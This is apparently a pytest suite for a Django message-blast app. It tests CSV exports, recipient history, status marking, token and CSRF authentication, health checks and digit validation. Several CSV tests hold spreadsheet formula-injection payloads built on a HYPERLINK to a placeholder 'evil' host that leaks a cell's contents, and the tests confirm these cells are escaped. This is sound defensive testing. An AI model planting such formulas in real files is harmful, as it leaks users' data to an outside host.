    assert [row[2] for row in rows] == [status.label for status, n in FUNNEL_MIX.items() for _ in range(n)]
    first = dict(zip(header, rows[0], strict=True))
    assert first["name"] == '\'=HYPERLINK("http://evil")'  # a spreadsheet shows it, never runs it
    assert first["message_id"] == "ABCD-42" and first["phone"].startswith("+60")


def test_recipients_csv_respects_the_stage_filter(admin_client, mixed_blast):
    header, *rows = read_csv(
        admin_client.get(f"/api/blasts/{mixed_blast.pk}/recipients/?format=csv&stage=replied")
    )
    assert header == CSV_HEADER
    assert [row[3] for row in rows] == ["REPLIED", "CLOSED"]


def test_recipients_csv_respects_the_filters(admin_client, mixed_blast):
    header, *rows = read_csv(
        admin_client.get(f"/api/blasts/{mixed_blast.pk}/recipients/?format=csv&status=READ_ACK")
    )
    assert header == CSV_HEADER
    assert [row[3] for row in rows] == ["READ_ACK", "READ_ACK"]

    header, *rows = read_csv(admin_client.get(f"/api/blasts/{mixed_blast.pk}/recipients?format=csv&q=abcd"))
    assert len(rows) == 1 and rows[0][4] == "ABCD-42"


@pytest.mark.parametrize("export", ["page", "api"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_from_outside_can_start_a_formula_in_either_export(admin_client, export, start):
    blast = make_blast(1)
    formula = f'{start}HYPERLINK("http://evil/?leak="&B2,"Click")'
    BlastRecipient.objects.filter(blast=blast).update(
        name=formula, reply_text=formula, failure_reason=formula, message_id=formula
    )
    url = {
        "page": f"/blasts/{blast.pk}/recipients.csv",
        "api": f"/api/blasts/{blast.pk}/recipients?format=csv",
    }
    header, row = read_csv(admin_client.get(url[export]))
    cells = dict(zip(header, row, strict=True))
    for field in ("name", "reply_text", "failure_reason", "message_id"):
        assert cells[field] == "'" + formula, field  # a spreadsheet shows it, never runs it


def test_recipients_csv_with_an_invalid_filter_is_400(admin_client, mixed_blast):
    response = admin_client.get(f"/api/blasts/{mixed_blast.pk}/recipients?format=csv&status=BOGUS")
    assert response.status_code == 400


def test_recipients_csv_with_an_invalid_filter_says_which_field(admin_client, mixed_blast):
    response = admin_client.get(f"/api/blasts/{mixed_blast.pk}/recipients?format=csv&status=BOGUS")
    assert list(json.loads(response.content)) == ["status"]


# --- /api/recipients/{id} ----------------------------------------------------------------------------------


def test_recipient_detail_shows_its_status_by_name(admin_client):
    blast = blast_at({Status.DELIVERY_ACK: 1})
    recipient = blast.recipients.get()

    body = admin_client.get(f"/api/recipients/{recipient.pk}").json()

    assert (body["id"], body["blast"], body["phone"], body["status"]) == (
        recipient.pk,
        blast.pk,
        recipient.phone,
        "DELIVERY_ACK",
    )
    assert body["sent_at"] is not None and body["delivered_at"] is not None and body["read_at"] is None
    assert admin_client.get("/api/recipients/424242").status_code == 404


def test_recipient_history_is_oldest_first_with_source_and_actor(admin_client, admin_user):
    recipient = make_blast(1).recipients.get()
    recipient_advance(recipient=recipient, status=Status.PENDING, source=Source.SEND, raw={"messageId": "M1"})
    recipient_advance(recipient=recipient, status=Status.READ_ACK, source=Source.WEBHOOK, raw={"ack": 4})
    recipient_advance(recipient=recipient, status=Status.CLOSED, source=Source.MANUAL, actor=admin_user)

    response = admin_client.get(f"/api/recipients/{recipient.pk}/history")

    assert response.status_code == 200
    rows = response.json()
    assert [(r["from_status"], r["to_status"], r["source"], r["actor"]) for r in rows] == [
        ("QUEUED", "PENDING", "send", None),
        ("PENDING", "READ_ACK", "webhook", None),
        ("READ_ACK", "CLOSED", "manual", "admin"),
    ]
    assert rows[0]["raw"] == {"messageId": "M1"} and rows[0]["recorded_at"] <= rows[2]["recorded_at"]
    assert admin_client.get("/api/recipients/424242/history").status_code == 404


def test_mark_replied_goes_through_the_ledger_with_the_actor(admin_client):
    recipient = blast_at({Status.READ_ACK: 1}).recipients.get()

    response = post(admin_client, f"/api/recipients/{recipient.pk}/mark", {"status": "REPLIED"})

    assert response.status_code == 200
    assert (response.json()["id"], response.json()["status"]) == (recipient.pk, "REPLIED")
    assert response.json()["replied_at"] is not None
    entry = recipient.history.latest("id")
    assert (entry.from_status, entry.to_status, entry.source, entry.actor.username) == (
        Status.READ_ACK,
        Status.REPLIED,
        Source.MANUAL,
        "admin",
    )


def test_mark_closed_counts_as_replied_and_closed(admin_client):
    blast = blast_at({Status.READ_ACK: 1})
    recipient = blast.recipients.get()

    response = post(admin_client, f"/api/recipients/{recipient.pk}/mark/", {"status": "CLOSED"})

    assert (response.status_code, response.json()["status"]) == (200, "CLOSED")
    metrics = admin_client.get(f"/api/blasts/{blast.pk}/metrics").json()
    assert (metrics["replied"], metrics["closed"]) == (1, 1)
    history = admin_client.get(f"/api/recipients/{recipient.pk}/history").json()
    assert (history[-1]["to_status"], history[-1]["source"], history[-1]["actor"]) == (
        "CLOSED",
        "manual",
        "admin",
    )


def test_marking_an_older_status_changes_nothing(admin_client):
    recipient = blast_at({Status.CLOSED: 1}).recipients.get()
    history_before = recipient.history.count()

    response = post(admin_client, f"/api/recipients/{recipient.pk}/mark", {"status": "REPLIED"})

    assert (response.status_code, response.json()["status"]) == (200, "CLOSED")
    recipient.refresh_from_db()
    assert recipient.status == Status.CLOSED and recipient.history.count() == history_before


@pytest.mark.parametrize(
    "body", [{"status": "READ_ACK"}, {"status": "closed"}, {"status": 70}, {}, {"status": None}]
)
def test_mark_with_an_invalid_status_is_400_and_changes_nothing(admin_client, body):
    recipient = blast_at({Status.READ_ACK: 1}).recipients.get()

    response = post(admin_client, f"/api/recipients/{recipient.pk}/mark", body)

    assert response.status_code == 400 and "status" in response.json()
    recipient.refresh_from_db()
    assert recipient.status == Status.READ_ACK and recipient.history.count() == 1


def test_mark_a_missing_recipient_is_404(admin_client):
    assert post(admin_client, "/api/recipients/424242/mark", {"status": "REPLIED"}).status_code == 404


# --- authentication ----------------------------------------------------------------------------------------


def test_anonymous_is_told_to_authenticate_with_a_token(client):
    blast = make_blast(1)
    response = client.get(f"/api/blasts/{blast.pk}")
    assert response.status_code == 401 and response["WWW-Authenticate"] == "Token"
    assert post(client, "/api/blasts", ROADMAP_BODY).status_code == 401
    assert Blast.objects.count() == 1


def test_token_auth_works_for_a_staff_user_without_csrf(admin_user):
    token = Token.objects.create(user=admin_user)
    api = Client(enforce_csrf_checks=True, headers={"Authorization": f"Token {token.key}"})

    assert api.get("/api/blasts").status_code == 200
    created = post(api, "/api/blasts", ROADMAP_BODY)
    assert created.status_code == 201
    assert api.post(f"/api/blasts/{created.json()['blast_id']}/send").status_code == 202
    assert Blast.objects.get().created_by == admin_user


def test_a_wrong_token_is_401(admin_user):
    Token.objects.create(user=admin_user)
    response = Client(headers={"Authorization": "Token not-the-key"}).get("/api/blasts")
    assert response.status_code == 401


def test_a_non_staff_user_is_403_by_token_or_session(client, django_user_model):
    marketer = django_user_model.objects.create_user("marketer", password="x")
    blast = make_blast(1)
    token = Token.objects.create(user=marketer)
    by_token = Client(headers={"Authorization": f"Token {token.key}"})
    client.force_login(marketer)

    for api in (by_token, client):
        assert api.get("/api/blasts").status_code == 403
        assert api.get(f"/api/blasts/{blast.pk}/metrics").status_code == 403
        assert api.post(f"/api/blasts/{blast.pk}/send").status_code == 403
        assert post(api, "/api/blasts", ROADMAP_BODY).status_code == 403
    blast.refresh_from_db()
    assert blast.state == Blast.State.DRAFT and Blast.objects.count() == 1


def test_a_session_post_without_the_csrf_token_is_refused(admin_user):
    blast = make_blast(1)
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(admin_user)

    refused = browser.post(f"/api/blasts/{blast.pk}/send")
    created = post(browser, "/api/blasts", ROADMAP_BODY)

    assert refused.status_code == 403 and "CSRF" in refused.json()["detail"]
    assert created.status_code == 403
    blast.refresh_from_db()
    assert blast.state == Blast.State.DRAFT and Blast.objects.count() == 1
    assert browser.get("/api/blasts").status_code == 200  # reads need no token

    # With the token from the cookie, as a page's JavaScript would send it, the same POST works.
    browser.cookies["csrftoken"] = secret = "a" * 32
    assert browser.post(f"/api/blasts/{blast.pk}/send", headers={"X-CSRFToken": secret}).status_code == 202


# --- /healthz ------------------------------------------------------------------------------------------------


def test_healthz_is_ok_without_login(client):
    response = client.get("/healthz")
    assert (response.status_code, response.json()) == (200, {"status": "ok", "database": "ok"})


def test_healthz_is_503_when_the_database_fails(client):
    with mock.patch.object(
        connections["default"], "cursor", side_effect=OperationalError("no route to host")
    ):
        response = client.get("/healthz")
    assert (response.status_code, response.json()) == (503, {"status": "unavailable", "database": "down"})


# --- check-status through the poller ----------------------------------------------------------------------


def sent_blast(count=2) -> Blast:
    """A blast whose recipients were sent (PENDING, with message ids) and are not due a poll yet."""
    blast = blast_at({Status.PENDING: count})
    for recipient in blast.recipients.all():
        BlastRecipient.objects.filter(pk=recipient.pk).update(message_id=f"M{recipient.pk}")
    return blast


def test_check_status_answers_202_with_the_check_and_the_blast_shows_it(admin_client, mocked_gateway):
    blast = sent_blast(2)
    assert admin_client.get(f"/api/blasts/{blast.pk}").json()["status_check"] is None

    response = admin_client.post(f"/api/blasts/{blast.pk}/check-status")

    check = blast.status_checks.get()
    assert response.status_code == 202
    assert response.json() == {
        "check": {
            "id": check.pk,
            "requested_at": response.json()["check"]["requested_at"],
            "queued": 2,
            "checked": 0,
            "updated": 0,
            "errors": 0,
            "finished_at": None,
        },
        "detail": "Checking 2 messages' statuses…",
    }
    assert check.requested_by.username == "admin"
    mocked_gateway.answers[f"M{blast.recipients.first().pk}"] = {"success": True, "status": "DELIVERY_ACK"}
    poll_due(client=get_client())
    shown = admin_client.get(f"/api/blasts/{blast.pk}").json()["status_check"]
    assert (shown["id"], shown["checked"], shown["updated"]) == (check.pk, 2, 1)
    assert shown["finished_at"] is not None


def test_a_second_check_status_while_one_runs_returns_the_running_check(admin_client, mocked_gateway):
    blast = sent_blast(2)
    first = admin_client.post(f"/api/blasts/{blast.pk}/check-status").json()["check"]

    again = admin_client.post(f"/api/blasts/{blast.pk}/check-status")

    assert (again.status_code, again.json()["check"]["id"]) == (202, first["id"])
    assert blast.status_checks.count() == 1 and not mocked_gateway.calls


def test_check_status_is_for_staff_only_and_marks_nothing_otherwise(
    client, django_user_model, mocked_gateway
):
    blast = sent_blast(1)
    url = f"/api/blasts/{blast.pk}/check-status"
    assert client.post(url).status_code == 401
    client.force_login(django_user_model.objects.create_user("marketer"))
    assert client.post(url).status_code == 403
    assert (
        not blast.status_checks.exists() and not blast.recipients.filter(status_check__isnull=False).exists()
    )


# --- ids are ASCII digits -------------------------------------------------------------------------------

OTHER_DIGITS = {
    "Arabic-Indic": str.maketrans(
        "0123456789", "\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669"
    ),
    "fullwidth": str.maketrans("0123456789", "\uff10\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18\uff19"),
}


@pytest.mark.parametrize("digits", OTHER_DIGITS.values(), ids=OTHER_DIGITS.keys())
def test_an_api_url_with_an_id_in_other_digits_is_404(admin_client, digits):
    blast = make_blast(1)
    recipient = blast.recipients.get()
    urls = [
        "/api/blasts/{blast}/",
        "/api/blasts/{blast}/metrics",
        "/api/blasts/{blast}/stuck-recipients",
        "/api/blasts/{blast}/recipients?format=csv",
        "/api/recipients/{recipient}/",
        "/api/recipients/{recipient}/history",
    ]
    for url in urls:
        assert admin_client.get(url.format(blast=blast.pk, recipient=recipient.pk)).status_code == 200, url
        other = url.format(
            blast=str(blast.pk).translate(digits), recipient=str(recipient.pk).translate(digits)
        )
        assert admin_client.get(other).status_code == 404, other
    assert admin_client.post(f"/api/blasts/{str(blast.pk).translate(digits)}/send").status_code == 404
    blast.refresh_from_db()
    assert blast.state == Blast.State.DRAFT


@pytest.mark.parametrize("digits", OTHER_DIGITS.values(), ids=OTHER_DIGITS.keys())
def test_a_page_url_with_an_id_in_other_digits_is_404(admin_client, digits):
    # <int:pk> is [0-9]+: this confirms it, so a page never answers at a second address.
    blast = make_blast(1)
    recipient = blast.recipients.get()
    b, r = str(blast.pk).translate(digits), str(recipient.pk).translate(digits)
    for url in (
        f"/blasts/{b}/",
        f"/blasts/{b}/live/",
        f"/blasts/{b}/recipients.csv",
        f"/blasts/{b}/recipients/{r}/",
    ):
        assert admin_client.get(url).status_code == 404, url


@pytest.mark.parametrize(
    ("query", "field"),
    [("page=\u0661", "page"), ("page_size=\u0661", "page_size"), ("page_size=\uff11&page=1", "page_size")],
)
def test_a_page_number_or_size_in_other_digits_is_400_naming_the_field(admin_client, query, field):
    blast = make_blast(2)
    for url in (
        f"/api/blasts/?{query}",
        f"/api/blasts/{blast.pk}/recipients?{query}",
        f"/api/blasts/{blast.pk}/?{query}",
    ):
        response = admin_client.get(url)
        assert (response.status_code, response.json()) == (400, {field: ["Use the digits 0-9."]}), url
